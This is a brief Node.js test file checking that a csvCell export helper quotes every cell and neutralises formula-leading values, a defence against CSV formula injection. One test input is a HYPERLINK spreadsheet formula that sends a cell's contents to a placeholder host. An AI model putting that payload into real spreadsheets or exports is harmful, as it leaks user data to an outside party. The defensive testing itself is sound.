import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell } from './csv-export.js';

test('W8: csvCell prefixes formula starts with a quote and quotes every cell', () => {
  assert.equal(csvCell('=HYPERLINK("http://x/?"&A1)'), `"'=HYPERLINK(""http://x/?""&A1)"`);
  for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '  =1+1']) assert.ok(csvCell(s).startsWith(`"'`), JSON.stringify(s));
  assert.equal(csvCell('Printer'), '"Printer"');
  assert.equal(csvCell(10042), '"10042"');
  assert.equal(csvCell(null), '""');
  assert.equal(csvCell('a\r\nb'), '"a\r\nb"', 'line breaks stay inside the quotes');
});
